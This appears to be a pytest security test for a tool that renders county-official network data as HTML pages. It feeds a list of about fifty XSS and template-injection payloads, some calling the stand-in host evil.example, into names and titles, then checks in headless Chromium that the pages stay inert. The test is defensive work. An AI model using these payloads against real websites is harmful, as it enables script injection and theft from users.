"""A county whose names and titles carry a hundred payloads exports and opens inertly.

Every view of it is opened in headless chromium and worked (hover, search,
click, filters): no dialog, no error, no request but the page itself, and the
``window.__pwned`` canary stays undefined. The payloads show as plain text.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from visualizations.builder import build_page
from visualizations.index import write_scan_pages
from visualizations.pages import neighbourhood_page, path_page

Opener = Callable[..., Any]

_BASE = [
    "<script>window.__pwned=1</script>",
    "<script>alert('xss')</script>",
    "</script><script>window.__pwned=1</script>",
    "</SCRIPT><SCRIPT>alert(1)</SCRIPT>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<img src=x onerror=alert(1)>",
    "<svg onload=window.__pwned=1>",
    "<svg/onload=alert(1)>",
    "\"><img src=x onerror=window.__pwned=1>",
    "'><script>window.__pwned=1</script>",
    "<a href=\"javascript:window.__pwned=1\">点击</a>",
    "javascript:window.__pwned=1",
    "javascript:alert(document.domain)",
    "<a href=x>href</a>",
    "href=javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"window.__pwned=1\">悬停</div>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{{7*7}} ${7*7} #{7*7}",
    "{{ nodes|safe }}{% include 'x' %}",
    "@@DATA@@ @@VIS_JS@@ @@APP_JS@@ @@CSP@@",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
    "<!-- <script>window.__pwned=1</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"http://evil.example/\">",
    "<form action=http://evil.example><button>提交</button></form>",
    "\" onmouseover=\"alert(1)",
    "' onclick='window.__pwned=1",
    "\"});window.__pwned=1;//",
    "');alert(1);//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=\"http://evil.example/pixel.png\">",
    "url(http://evil.example/bg.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<video><source onerror=\"window.__pwned=1\"></video>",
]
#: A hundred payloads: each base one, alone and inside a plausible Chinese name.
PAYLOADS = [*_BASE, *(f"王{i}{p}有限公司" for i, p in enumerate(_BASE))]
NAME_KEYS = ["official", "spouse", "brother", "friend", "gang", "clerk", "bidder", "agency",
             "police", "company", "rival", "contract", "contract2", "case", "post", "post2",
             "note", "address"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory,
            county_maker: Callable[..., Any]) -> Iterator[Any]:
    """The small county with every name, title, address and note a payload, and a hundred
    more persons (each named by one payload) tied to the official."""
    c = county_maker(tmp_path_factory.mktemp("hostile"),
                     dict(zip(NAME_KEYS, PAYLOADS, strict=False)), PAYLOADS)
    yield c
    c.store.close()


def canary(opened: Any) -> Any:
    return opened.js("typeof window.__pwned")


def assert_inert(opened: Any, path: Path) -> None:
    assert opened.dialogs == [], opened.dialogs
    assert opened.errors == [], opened.errors
    assert [t for k, t in opened.console if k == "error"] == []
    assert opened.requests == [path.resolve().as_uri()], opened.requests
    assert canary(opened) == "undefined"
    injected = opened.js("document.querySelectorAll('img, svg, iframe, object, embed, base, "
                         "link, form, video, math, meta[http-equiv=refresh]').length")
    assert injected == 0
    assert opened.js("document.scripts.length") == 3


def work(opened: Any, hover: Callable[..., str], sample: int = 12) -> None:
    """Use the page: hover nodes with payload names, search, click, toggle filters."""
    ids = opened.js("umbrellaView.nodes.getIds({filter: n => /[<>{\"']/.test(n.label)})")
    assert ids, "no payload reached the view"
    for node_id in ids[:sample]:
        tip = hover(opened, node_id)
        name = opened.js("id => umbrellaView.nodes.get(id).tip", node_id)
        assert tip == name  # the tooltip shows the text itself, markup and all
    opened.page.fill("#u-search", "<script")
    opened.page.press("#u-search", "Enter")
    hits = opened.page.locator("#u-results button")
    if hits.count():
        hits.first.click()
        assert "<" in opened.page.inner_text("#u-details")
    for box in opened.page.locator("#u-filters input").all():
        box.uncheck()
        box.check()


def test_the_payloads_reached_the_store(hostile: Any) -> None:
    names = {e.name for e in hostile.store.view().entities()}
    assert sum(1 for p in PAYLOADS if p in names) >= 90
    assert hostile.findings, "the hostile county must still produce findings"


def test_scan_pages_and_index_are_inert(hostile: Any, tmp_path: Path, open_page: Opener,
                                        hover: Callable[..., str]) -> None:
    index = write_scan_pages(hostile.store, hostile.findings, tmp_path / "pages")
    opened = open_page(index, ready=False)
    assert_inert_index(opened, index)
    text = opened.page.inner_text("table")
    assert any(f["title"][:40] in text for f in hostile.findings)
    titles = {f"{f['id']}.html": f["title"] for f in hostile.findings}
    for page in sorted((tmp_path / "pages").glob("F-*.html")):
        shown = open_page(page)
        work(shown, hover, sample=6)
        assert_inert(shown, page)
        # the title, payload and all, is on screen as text
        assert shown.js("document.getElementById('u-title').textContent") == titles[page.name]


def assert_inert_index(opened: Any, path: Path) -> None:
    assert opened.dialogs == [] and opened.errors == []
    assert [t for k, t in opened.console if k == "error"] == []
    assert opened.requests == [path.resolve().as_uri()]
    assert canary(opened) == "undefined"
    assert opened.js("document.scripts.length") == 0
    assert opened.js("document.querySelectorAll('img, svg, iframe, base, form').length") == 0


def test_neighbourhood_and_path_views_are_inert(hostile: Any, tmp_path: Path,
                                                open_page: Opener,
                                                hover: Callable[..., str]) -> None:
    view = hostile.store.view()
    official = hostile.key("P1")
    page = neighbourhood_page(view, official, hops=2)
    path = page.write(tmp_path / "n.html")
    opened = open_page(path)
    # every payload person is drawn, and its tooltip starts with its exact stored name
    tips = opened.js("umbrellaView.nodes.get().map(n => n.title.textContent)")
    names = {e.name for e in view.entities(kind="person")}
    assert sum(1 for t in tips if t.split("\n")[0] in names and "<" in t) >= 40
    work(opened, hover)
    assert_inert(opened, path)
    path2 = path_page(view, official, hostile.key("O2")).write(tmp_path / "path.html")
    opened2 = open_page(path2)
    work(opened2, hover, sample=4)
    assert_inert(opened2, path2)


def test_the_harness_would_see_an_injection(tmp_path: Path, open_page: Opener) -> None:
    """A page with the policy removed and markup pasted in: the checks above must catch it."""
    html = build_page([{"id": "a", "name": "a", "kind": "person"}], [], title="t").html
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    html = html.replace("<main>", '<main><img src="x" onerror="window.__pwned=1">')
    path = tmp_path / "broken.html"
    path.write_text(html, encoding="utf-8")
    opened = open_page(path)
    opened.page.wait_for_function("() => typeof window.__pwned !== 'undefined'", timeout=5000)
    assert canary(opened) == "number"
    assert path.with_name("x").as_uri() in opened.requests
